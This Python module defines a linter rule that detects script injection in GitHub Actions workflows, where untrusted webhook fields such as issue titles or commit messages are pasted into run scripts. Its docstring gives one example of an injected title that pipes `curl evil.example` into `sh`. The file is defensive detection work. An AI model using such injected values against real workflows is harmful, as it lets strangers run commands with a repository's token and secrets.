"""Text that strangers write, pasted into a script before the shell reads it.

`${{ }}` is replaced before the script starts, so a title like `"; curl evil.example | sh; "`
becomes code. An environment variable is not read as code.
Source of the list: the fields of webhook payloads that somebody without write access can fill.
"""

from collections.abc import Iterator
from typing import Final

from liftlock.language.checks.flow import texts
from liftlock.language.checks.subject import Subject, shown, written
from liftlock.language.checks.walk import computed, scripts
from liftlock.language.diagnostics import Diagnostic, Severity
from liftlock.language.expressions.nodes import Reference
from liftlock.language.rule import Rule
from liftlock.language.source import Span

INJECTION: Final = Rule(
    'script-injection',
    Severity.WARNING,
    'A script contains `${{ }}` with a text that anybody can write: the title or body of an issue,'
    ' pull request, comment or review, the name of a branch, the message or author of a commit.',
    'The text becomes part of the script before the shell reads it. Whoever opens an issue can run'
    " commands with the job's token and secrets.",
    'Put it into an environment variable, and let the shell read that:'
    ' `env: {TITLE: "${{ github.event.issue.title }}"}`, then `"$TITLE"`.',
)
RULES: Final = (INJECTION,)

# '*' stands for any index
PERSON: Final = ('name', 'email')
UNTRUSTED: Final = frozenset(
    tuple(path.split('.'))
    for path in (
        'head_ref',
        'event.issue.title',
        'event.issue.body',
        'event.pull_request.title',
        'event.pull_request.body',
        'event.pull_request.head.ref',
        'event.pull_request.head.label',
        'event.pull_request.head.repo.default_branch',
        'event.pull_request.head.repo.description',
        'event.pull_request.head.repo.homepage',
        'event.comment.body',
        'event.review.body',
        'event.review_comment.body',
        'event.discussion.title',
        'event.discussion.body',
        'event.changes.title.from',
        'event.changes.body.from',
        'event.changes.head.ref.from',
        'event.pages.*.page_name',
        'event.pages.*.title',
        'event.commits.*.message',
        *(f'event.commits.*.author.{field}' for field in PERSON),
        'event.head_commit.message',
        *(f'event.head_commit.author.{field}' for field in PERSON),
        'event.workflow_run.head_branch',
        'event.workflow_run.display_title',
        'event.workflow_run.head_commit.message',
        *(f'event.workflow_run.head_commit.author.{field}' for field in PERSON),
        'event.workflow_run.head_repository.description',
        'event.workflow_run.pull_requests.*.head.ref',
        'event.merge_group.head_commit.message',
    )
)
DEEPEST: Final = max(map(len, UNTRUSTED))


def check(subject: Subject) -> Iterator[Diagnostic]:
    for _, script in scripts(subject.places):
        for one in computed(script):
            inserted = subject.inserted(one.span) or [(one.span, one.expression)]
            for span, expression in inserted:
                for path in dict.fromkeys(texts(expression.tree)):
                    if untrusted(path):
                        yield _found(subject, span, path)


def _found(subject: Subject, span: Span, path: Reference) -> Diagnostic:
    plain = tuple(name for name in path if name and name != '*')
    pattern = written(path if len(plain) == len(path) else plain[:2])
    return subject.found(
        INJECTION,
        subject.spot(span, pattern),
        f'{shown(path)} can be written by anybody, and becomes part of this script',
        f'env: {{{_variable(plain)}: "${{{{ {shown(path)} }}}}"}}, and read the variable',
    )


def untrusted(path: Reference) -> bool:
    """Whether strangers write this value or, when it is a whole object, a part of it."""
    if path[0] != 'github' or len(path) < 2:
        return False
    rest = tuple('*' if name is None or name.isdecimal() else name for name in path[1:])
    if len(rest) > DEEPEST:
        return False
    return any(
        all(mine in (theirs, '*') for mine, theirs in zip(rest, parts, strict=False))
        for parts in UNTRUSTED
        if len(parts) >= len(rest)
    )


def _variable(names: tuple[str, ...]) -> str:
    return '_'.join(names[-2:] if names[-1] in ('ref', 'name', 'from') else names[-1:]).upper()
